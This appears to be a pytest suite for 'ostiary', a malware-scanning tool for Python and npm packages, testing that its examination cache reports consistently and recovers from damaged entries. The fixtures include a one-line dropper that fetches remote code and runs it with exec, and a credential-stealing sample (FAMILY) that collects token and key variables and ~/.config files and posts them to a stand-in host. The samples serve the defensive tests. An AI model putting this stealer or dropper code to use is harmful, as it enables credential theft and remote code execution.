"""What this same version examined before is judged and not read again, and reports are the same."""

import ast
import hashlib
import io
import json
import os
import sys
import zlib
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

import ostiary
from ostiary.cluster.frames import Handed
from ostiary.cluster.plan import current
from ostiary.cluster.wire import encode
from ostiary.core.digest import Digest
from ostiary.core.examination import Examination
from ostiary.core.facts.release import FileForm, ReleaseFile
from ostiary.core.run import Run
from ostiary.core.world import World
from ostiary.evidence.artifact import examine
from ostiary.flows import again, artifacts, before, examining
from ostiary.flows.apart import PLAN, Given
from ostiary.flows.before import Before, Wanted
from ostiary.flows.edition import LIBRARIES, _listing, edition
from ostiary.flows.packed import Packed, PackedError, pack, unpack
from ostiary.flows.scan import scan
from ostiary.policy.load import preset
from ostiary.store.examinations import FOLDER, Examinations
from world import build
from world.front import Front, Said
from world.index import FakeIndex

NOW = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
SETUP = "import os\nos.system('echo built')\n"
DROPPER = "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid').read())\n"
FAMILY = """
import base64, json, os, socket, urllib.request

def gather():
    found = {}
    for name, value in os.environ.items():
        if "TOKEN" in name or "KEY" in name:
            found[name] = value
    for root, folders, files in os.walk(os.path.expanduser("~/.config")):
        for one in files[:20]:
            with open(os.path.join(root, one), "rb") as stream:
                found[one] = base64.b64encode(stream.read(4096)).decode()
    return found

def send(rows):
    body = json.dumps({"host": socket.gethostname(), "rows": rows}).encode()
    request = urllib.request.Request("https://drop.example.invalid/in", data=body)
    urllib.request.urlopen(request, timeout=5)

send(gather())
"""
ELSEWHERE = {"nodesemver"}
"""Orders versions for advisories, which no examination asks."""

TAKEN = "examined before by this same version"


@pytest.fixture
def samples(front: Front) -> list[str]:
    """An sdist, a wheel, an npm archive, a script, a link, a damaged archive, a folder."""
    made = [
        build.sdist("thing", "1.0", {"setup.py": SETUP, "thing/go.py": DROPPER}),
        build.wheel("thing", "1.0", {"thing/__init__.py": "import socket\n" * 3}),
        ("thing-1.0.0.tgz", build.npm_archive({"name": "thing", "version": "1.0.0"})),
        ("tool.py", SETUP.encode()),
        ("broken-1.0-py3-none-any.whl", b"PK\x03\x04 and nothing more"),
    ]
    for name, body in made:
        (front.cwd / name).write_bytes(body)
    (front.cwd / "link.py").symlink_to("tool.py")
    (front.cwd / "folder").mkdir()
    (front.cwd / "folder" / "setup.py").write_text(SETUP)
    return [*(name for name, _ in made), "link.py", "folder"]


KEPT = 5
"""Of these samples all but the link and the folder."""


def told(said: Said) -> Any:
    """A JSON report without what belongs to one run alone: its id, times, notes, and who ended first."""
    report = {key: value for key, value in said.report.items() if key not in {"run", "notes"}}
    for row in report["evidence"]:
        row.pop("collected_at")
        row.pop("age")
    for row in report["verdicts"]:
        row.pop("seconds", None)
    return {
        key: sorted(map(json.dumps, rows)) if isinstance(rows, list) else rows
        for key, rows in report.items()
    }


def scanned(front: Front, *words: str) -> Said:
    return front("scan", "--format", "json", *words)


def count(said: Said) -> int:
    """How many artifacts a run says that it did not read."""
    notes = [note for note in said.report["notes"] if TAKEN in note]
    return int(notes[0].split()[0]) if notes else 0


def entries(front: Front) -> list[Path]:
    root = Path(front.environ["OSTIARY_CACHE"]) / FOLDER
    return sorted(one for one in root.rglob("*") if one.is_file())


@pytest.mark.parametrize("jobs", ["1", "3"])
@pytest.mark.parametrize("policy", ["balanced", "strict"])
def test_scans_report_the_same(front: Front, samples: list[str], jobs: str, policy: str) -> None:
    words = (*samples, "--jobs", jobs, "--policy", policy)
    first, second = scanned(front, *words), scanned(front, *words)
    assert told(first) == told(second)
    assert (first.code, first.report["notes"]) == (second.code, [])
    assert count(second) == KEPT == len(entries(front))
    front.forget()
    assert told(scanned(front, *words, "--fresh")) == told(first)


def test_the_text_says_how_many(front: Front, samples: list[str]) -> None:
    assert TAKEN not in front("scan", samples[0]).out
    assert f"note        1 artifact was {TAKEN}" in front("scan", samples[0]).out
    front("scan", samples[1])
    assert f"2 artifacts were {TAKEN}" in front("scan", *samples[:2]).out


def test_what_is_taken_is_not_read(
    front: Front, samples: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    scanned(front, samples[0])
    (entry,) = entries(front)
    asked: list[str] = []

    def find(self: Before, stream: Any, wanted: Wanted) -> Any:
        found = whole(self, stream, wanted)
        asked.append(f"{wanted.given.name} {found is not None}")
        return found

    whole = Before.find
    monkeypatch.setattr(Before, "find", find)
    monkeypatch.setattr(Before, "own", lambda *_: pytest.fail("it was read"))
    assert count(scanned(front, samples[0])) == 1
    assert asked == ["thing-1.0.tar.gz True"]
    assert entries(front) == [entry]


def test_fresh_reads_all_and_writes_it_anew(front: Front, samples: list[str]) -> None:
    scanned(front, samples[0])
    (entry,) = entries(front)
    body = entry.read_bytes()
    entry.write_bytes(b"nothing")
    os.utime(entry, (1000, 1000))
    said = scanned(front, "--fresh", samples[0])
    assert count(said) == 0
    assert entry.read_bytes() == body
    assert count(scanned(front, samples[0])) == 1


def flip(entry: Path) -> None:
    body = bytearray(entry.read_bytes())
    body[-20] ^= 4
    entry.write_bytes(body)


def cut(entry: Path) -> None:
    os.truncate(entry, entry.stat().st_size - 1)


def empty(entry: Path) -> None:
    entry.write_bytes(b"")


def put(entry: Path, payload: bytes) -> None:
    """Another payload in an entry that is whole in all else."""
    assert Examinations(entry.parents[2]).put(entry.name, payload)


def nonsense(entry: Path) -> None:
    put(entry, b"no deflate")


def no_examination(entry: Path) -> None:
    put(entry, pack_of([1, 2]))


def of_another(entry: Path) -> None:
    body = build.sdist("thing", "1.0", {"setup.py": ""})[1]
    put(entry, pack(examined(body), ()))


def loosely_made(entry: Path) -> None:
    put(entry, pack(read_entry(entry), ("network: open",)))


def bomb(entry: Path) -> None:
    put(entry, zlib.compress(b" " * (40 << 20), 9))


def pack_of(value: Any) -> bytes:
    return zlib.compress(json.dumps([[], value]).encode())


def examined(body: bytes, name: str = "thing-1.0.tar.gz") -> Examination:
    return examine(io.BytesIO(body), name)


def read_entry(entry: Path) -> Examination:
    return examined((entry.parents[3] / "cwd" / "thing-1.0.tar.gz").read_bytes())


DAMAGE = [flip, cut, empty, nonsense, no_examination, of_another, loosely_made, bomb]


@pytest.mark.parametrize("damage", DAMAGE)
def test_an_entry_that_is_wrong_is_read_again_and_replaced(
    front: Front, samples: list[str], damage: Callable[[Path], None]
) -> None:
    first = scanned(front, samples[0])
    (entry,) = entries(front)
    body = entry.read_bytes()
    damage(entry)
    assert entry.read_bytes() != body
    second = scanned(front, samples[0])
    assert count(second) == 0
    assert told(second) == told(first)
    assert second.report["notes"] == []
    assert entry.read_bytes() == body
    assert count(scanned(front, samples[0])) == 1


@pytest.mark.parametrize("damage", DAMAGE)
def test_a_vet_replaces_a_wrong_entry_too(
    front: Front, samples: list[str], damage: Callable[[Path], None]
) -> None:
    words = ("--no-tree", f"./{samples[0]}")
    first = front.vet(*words)
    (entry,) = entries(front)
    damage(entry)
    second = front.vet(*words)
    assert (count(second), told(second)) == (0, told(first))
    third = front.vet(*words)
    assert (count(third), told(third)) == (1, told(first))


def test_another_version_of_the_code_uses_none_of_it(
    front: Front, samples: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    scanned(front, samples[0])
    with monkeypatch.context() as patch:
        patch.setattr(before, "edition", lambda: "0" * 64)
        assert count(scanned(front, samples[0])) == 0
        assert count(scanned(front, samples[0])) == 1
    assert count(scanned(front, samples[0])) == 1
    assert len(entries(front)) == 2


def test_the_edition_changes_with_every_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def now() -> str:
        edition.cache_clear()
        return edition()

    try:
        monkeypatch.setattr("ostiary.flows.edition.CODE", tmp_path)
        assert now() == "", "there is no source to tell it from"
        (tmp_path / "one.py").write_text("x = 1\n")
        first = now()
        (tmp_path / "__pycache__").mkdir()
        (tmp_path / "__pycache__" / "one.pyc").write_bytes(b"bytecode")
        assert len(first) == 64
        assert now() == first
        (tmp_path / "data.json").write_text("{}")
        second = now()
        (tmp_path / "one.py").write_text("x = 2\n")
        third = now()
        (tmp_path / "one.py").rename(tmp_path / "two.py")
        fourth = now()
        monkeypatch.setattr("ostiary.flows.edition._libraries", lambda: ["tree_sitter-9.dist-info"])
        assert len({first, second, third, fourth, now()}) == 5
    finally:
        edition.cache_clear()


def test_the_edition_of_an_installed_release_is_its_record(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What an installer recorded is not read again; what it did not record, or what changed since, tells."""
    root, record = tmp_path / "ostiary", tmp_path / "ostiary-1.0.dist-info" / "RECORD"
    lines = [
        "ostiary/one.py,sha256=AAAA,6",
        "ostiary/sub/two.py,sha256=BBBB,6",
        "ostiary-1.0.dist-info/RECORD,,",
    ]
    (root / "sub").mkdir(parents=True)
    record.parent.mkdir()
    record.write_text("\n".join(lines))
    for name in ("one.py", "sub/two.py"):
        (root / name).write_text("x = 1\n")
        os.utime(root / name, ns=(1, 1))
    read: list[str] = []

    def counted(path: str) -> bytes:
        read.append(Path(path).name)
        return Path(path).read_bytes()

    def now() -> str:
        read.clear()
        edition.cache_clear()
        _listing.cache_clear()
        return edition()

    monkeypatch.setattr("ostiary.flows.edition.CODE", root)
    monkeypatch.setattr("ostiary.flows.edition._bytes", counted)
    try:
        several = [now()]
        assert len(several[0]) == 64
        assert now() == several[0]
        assert read == []
        (root / "one.py").write_text("x = 22\n")  # another size
        os.utime(root / "one.py", ns=(1, 1))
        several.append(now())
        (root / "one.py").write_text("x = 33\n")  # another time
        several.append(now())
        record.write_text(
            "\n".join(lines).replace("BBBB", "CCCC")
        )  # another release, all else alike
        several.append(now())
        (root / "beside.py").write_text("x = 1\n")
        several.append(now())
        assert read == ["beside.py"]
        (tmp_path / "ostiary-2.0.dist-info").mkdir()  # nobody knows which of them it is
        several.append(now())
        assert sorted(read) == ["beside.py", "one.py", "two.py"]
        assert len({*several}) == len(several)
    finally:
        edition.cache_clear()
        _listing.cache_clear()


def test_the_edition_knows_every_library_that_reads() -> None:
    """A library that is forgotten would let an old reading live on after it was updated."""
    source = Path(ostiary.__file__).parent
    readers = [*(source / "evidence").glob("*.py")]
    for floor in ("core", "formats", "program"):
        readers += (source / floor).rglob("*.py")
    listings = (
        "inventory",
        "vex",
        "yaml_document.py",
        "toml_document.py",
    )  # no artifact is read by these
    readers = [one for one in readers if not {*one.parts} & {*listings}]
    found = set()
    for path in readers:
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Import):
                found |= {one.name.partition(".")[0] for one in node.names}
            elif isinstance(node, ast.ImportFrom) and node.module:
                found.add(node.module.partition(".")[0])
    foreign = found - sys.stdlib_module_names - {"ostiary"}
    assert "tree_sitter" in foreign
    assert foreign <= {*LIBRARIES, *ELSEWHERE}


def test_no_edition_means_that_nothing_is_kept(
    front: Front, samples: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(before, "edition", lambda: "")
    said = scanned(front, samples[0])
    assert "nothing tells which version" in said.report["notes"][0]
    assert entries(front) == []


def test_the_same_bytes_under_another_name_are_read_by_themselves(
    front: Front, samples: list[str]
) -> None:
    body = (front.cwd / samples[1]).read_bytes()
    (front.cwd / "thing-1.0.zip").write_bytes(body)
    scanned(front, samples[1])
    said = scanned(front, "thing-1.0.zip")
    assert count(said) == 0
    assert said.report["coverage"][0]["artifact"] == "thing-1.0.zip"
    (front.cwd / "other").mkdir()
    (front.cwd / "other" / samples[1]).write_bytes(body)
    assert count(scanned(front, f"other/{samples[1]}")) == 1, "the folder makes no difference"


def test_a_file_that_may_run_is_another_one(front: Front, samples: list[str]) -> None:
    scanned(front, "tool.py")
    (front.cwd / "tool.py").chmod(0o755)
    assert count(scanned(front, "tool.py")) == 0
    assert count(scanned(front, "tool.py")) == 1


def test_other_bytes_under_the_same_name_are_read(front: Front, samples: list[str]) -> None:
    scanned(front, samples[0])
    body = build.sdist("thing", "1.0", {"setup.py": "", "thing/go.py": ""})[1]
    (front.cwd / samples[0]).write_bytes(body)
    said = scanned(front, samples[0])
    assert count(said) == 0
    assert said.report["verdicts"][0]["decision"] == "allow"


def test_policies_and_lists_are_asked_anew(front: Front, samples: list[str]) -> None:
    """The verdict is never kept: a list that is brought in later counts for what was examined before."""
    assert "known-malware" not in scanned(front, samples[0]).checks
    digest = hashlib.sha256((front.cwd / samples[0]).read_bytes()).hexdigest()
    line = f'{{"sha256":"{digest}","family":"bad"}}\n'
    (front.cwd / "list.jsonl").write_text('{"schema":"ostiary/known-files/1"}\n' + line)
    assert front("db", "update", "--from", "list.jsonl").code == 0
    said = scanned(front, samples[0])
    assert count(said) == 1
    assert said.verdict["decision"] == "block"
    assert any("`bad`" in row["message"] for row in said.report["findings"])


def test_lists_with_sketches_have_entries_of_their_own(front: Front, samples: list[str]) -> None:
    name, body = build.sdist("thing", "2.0", {"thing/go.py": FAMILY})
    (front.cwd / name).write_bytes(body)
    plain = scanned(front, name)
    made = front("db", "fingerprint", name, "--family", "bad").out
    (front.cwd / "list.jsonl").write_text(made)
    assert '"minhash"' in made
    assert front("db", "update", "--from", "list.jsonl").code == 0
    front.forget()
    first, second = scanned(front, name), scanned(front, name)
    assert (count(first), count(second)) == (0, 1)
    assert told(first) == told(second) != told(plain)
    known = front.folder / "data" / "known-files.jsonl"
    known.write_bytes(known.read_bytes()[:-9])  # damaged: its sketches cannot be used
    third = scanned(front, name)
    front.forget()
    assert count(third) == 1
    assert told(third) == told(scanned(front, name))


def published(front: Front, index: FakeIndex) -> None:
    files = {"thing/__init__.py": DROPPER, "setup.py": SETUP}
    index.publish(
        "thing", "1.0", [build.wheel("thing", "1.0", files), build.sdist("thing", "1.0", files)]
    )
    index.publish("thing", "1.1", [build.wheel("thing", "1.1", files)])


def test_vets_report_the_same(front: Front, index: FakeIndex) -> None:
    published(front, index)
    words = ("--no-tree", "thing==1.0")
    first, second = front.vet(*words), front.vet(*words)
    assert (count(first), count(second)) == (0, 2)
    assert told(first) == told(second)
    third = front.vet(*words, "--fresh")
    assert (count(third), told(third)) == (0, told(first))


def test_a_file_of_a_release_counts_in_that_company_alone(front: Front, index: FakeIndex) -> None:
    """One worker reads a whole release: what is kept of one file can only count in that release again."""
    published(front, index)
    front.vet("--no-tree", "thing==1.0")
    name, body = build.sdist("thing", "1.0", {"thing/__init__.py": DROPPER, "setup.py": SETUP})
    (front.cwd / name).write_bytes(body)
    assert count(scanned(front, name)) == 0
    front.vet("--no-tree", "thing==1.1")
    wheel = build.wheel("thing", "1.1", {"thing/__init__.py": DROPPER, "setup.py": SETUP})
    (front.cwd / wheel[0]).write_bytes(wheel[1])
    assert count(scanned(front, wheel[0])) == 1, "what was read alone counts everywhere"


def test_files_that_no_digest_pins_are_nobodys_company() -> None:
    good, weak = Digest("sha256", "0" * 64), Digest("md5", "0" * 32)
    one = ReleaseFile("a.whl", "u", FileForm.WHEEL, (good,))
    two = ReleaseFile("b.tar.gz", "u", FileForm.SDIST, (weak, good))
    assert artifacts.beside([one]) == ""
    both = artifacts.beside([one, two])
    assert both
    assert both == artifacts.beside([two, one])
    assert both != artifacts.beside([one, replace(two, filename="c.tar.gz")])
    assert artifacts.beside([one, replace(two, digests=(weak,))]) is None


def test_diffs_and_fingerprints_take_it_too(front: Front, samples: list[str]) -> None:
    other = build.sdist("thing", "0.9", {"setup.py": ""})
    (front.cwd / other[0]).write_bytes(other[1])
    words = ("diff", f"./{other[0]}", f"./{samples[0]}", "--format", "json")
    first, second, third = front(*words), front(*words), front(*words, "--fresh")
    assert [count(one) for one in (first, second, third)] == [0, 2, 0]
    bare = [{k: v for k, v in one.report.items() if k != "notes"} for one in (first, second, third)]
    assert bare[0] == bare[1] == bare[2]
    assert TAKEN in front(*words[:3]).out
    assert front("db", "fingerprint", samples[0]).out == front("db", "fingerprint", samples[0]).out


def test_a_cache_that_cannot_be_written_costs_a_note_only(front: Front, samples: list[str]) -> None:
    first = scanned(front, *samples)
    blocked = front.folder / "blocked"
    blocked.write_bytes(b"")
    front.environ["OSTIARY_CACHE"] = str(blocked)
    second = scanned(front, *samples)
    assert told(second) == told(first)
    (note,) = second.report["notes"]
    assert "not kept for the next time" in note
    assert "examinations are not kept" in front("vet", "--no-tree", f"./{samples[0]}").out


def test_a_read_only_cache_costs_a_note_only(
    front: Front, samples: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    first = scanned(front, samples[0])
    (entry,) = entries(front)
    root = entry.parents[1]
    root.chmod(0o500)
    monkeypatch.setattr(
        os, "access", lambda path, mode: Path(path) != root
    )  # root may write anywhere
    try:
        said = scanned(front, *samples[:1])
    finally:
        root.chmod(0o700)
    assert told(said) == told(first)
    (note,) = said.report["notes"]
    assert note.endswith(f"{root} cannot be written")
    assert entries(front) == [entry]


def runs(paths: list[Path], folder: Path, kept: Before, plan: Any = PLAN) -> dict[str, Run]:
    world = World(NOW, {}, folder, folder, folder / "cache", folder, run_id="one")
    return dict(scan(map(str, paths), preset("balanced"), world, plan=plan, before=kept))


def before_of(folder: Path) -> Before:
    return Before(World(NOW, {}, folder, folder, folder / "cache", folder))


def test_without_confinement_nothing_confined_is_taken(tmp_path: Path) -> None:
    """A note about what stood open must not get lost, nor appear where it is not true."""
    name, body = build.sdist("thing", "1.0", {"setup.py": SETUP})
    (tmp_path / name).write_bytes(body)
    loose = replace(PLAN, without=frozenset({"landlock"}))
    for plan, notes in ((PLAN, 0), (loose, 1), (loose, 1), (PLAN, 0), (PLAN, 0)):
        kept = before_of(tmp_path)
        (run,) = runs([tmp_path / name], tmp_path, kept, plan).values()
        assert len(run.notes) == notes


@pytest.mark.parametrize("plan", [PLAN, replace(PLAN, apart=False)], ids=["apart", "here"])
def test_workers_and_none(tmp_path: Path, plan: Any) -> None:
    name, body = build.sdist("thing", "1.0", {"setup.py": SETUP})
    (tmp_path / name).write_bytes(body)
    first, second = before_of(tmp_path), before_of(tmp_path)
    one = runs([tmp_path / name], tmp_path, first, plan)
    two = runs([tmp_path / name], tmp_path, second, plan)
    assert [len(kept.notes()) for kept in (first, second)] == [0, 1]
    assert [run.findings for run in one.values()] == [run.findings for run in two.values()]


def test_who_dies_or_is_too_slow_leaves_nothing(tmp_path: Path) -> None:
    name, body = build.sdist("thing", "1.0", {"setup.py": SETUP})
    (tmp_path / name).write_bytes(body)
    late = replace(PLAN, patience=-1e9)
    (run,) = runs([tmp_path / name], tmp_path, before_of(tmp_path), late).values()
    assert "broke off" in " ".join(one.message for one in run.verdicts[0].reasons)
    assert not [one for one in (tmp_path / "cache").rglob("*") if one.is_file()]


def test_what_came_near_the_limit_of_memory_is_not_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    name, body = build.sdist("thing", "1.0", {"setup.py": SETUP})
    (tmp_path / name).write_bytes(body)
    here = replace(PLAN, apart=False)
    with monkeypatch.context() as patch:
        patch.setattr(again, "MAX_MEMORY", 0)
        runs([tmp_path / name], tmp_path, before_of(tmp_path), here)
    with monkeypatch.context() as patch:
        patch.setattr(examining, "MAX_MEMORY", 0)
        with (tmp_path / name).open("rb") as stream:
            place = Handed(stream)
            found, _ = examining.examine_once(Given(name), place, before_of(tmp_path))
            assert isinstance(found, Examination)
    assert not [one for one in (tmp_path / "cache").rglob("*") if one.is_file()]


def test_a_file_that_changes_while_it_is_read_spoils_no_entry(tmp_path: Path) -> None:
    """What is examined is a copy of our own, and its digest is that of the copy."""
    path = tmp_path / "thing-1.0.tar.gz"
    path.write_bytes(build.sdist("thing", "1.0", {"setup.py": SETUP})[1])
    kept = before_of(tmp_path)
    wanted = Wanted(Given(path.name), shaped=False)
    with path.open("rb") as stream:
        own = kept.own(stream, wanted)
        assert own is not None
        slot, copy = own
        was = path.read_bytes()
        path.write_bytes(b"other bytes, in the same file")
        with copy:
            assert copy.read() == was
        assert slot.digest == hashlib.sha256(was).hexdigest()


def test_no_two_keys_are_alike(tmp_path: Path) -> None:
    def keys() -> Iterator[str]:
        for body in (b"one", b"two"):
            path = tmp_path / "file"
            path.write_bytes(body)
            for given in (
                Given("a"),
                Given("b"),
                Given("a", executable=True),
                Given("a", target="b"),
            ):
                for shaped in (False, True):
                    for company in ("", "x"):
                        with path.open("rb") as stream:
                            own = before_of(tmp_path).own(stream, Wanted(given, shaped, company))
                            assert own is not None
                            own[1].close()
                            yield own[0].key

    found = [*keys()]
    assert len(found) == len(set(found)) == 32


def test_what_is_packed_is_bound_to_its_bytes_and_name() -> None:
    name, body = build.sdist("thing", "1.0", {"setup.py": SETUP})
    found = examined(body, name)
    digest = hashlib.sha256(body).hexdigest()
    data = pack(found, current().lines())
    assert unpack(Packed(data, name, digest, shaped=False)) == found
    for wrong in (
        Packed(data, "thing-2.0.tar.gz", digest, shaped=False),
        Packed(data, name, "0" * 64, shaped=False),
        Packed(data[:-1], name, digest, shaped=False),
        Packed(data + b"more", name, digest, shaped=False),
        Packed(encode(found), name, digest, shaped=False),
        Packed(pack(found, ("files: open",)), name, digest, shaped=False),
    ):
        with pytest.raises(PackedError):
            unpack(wrong)
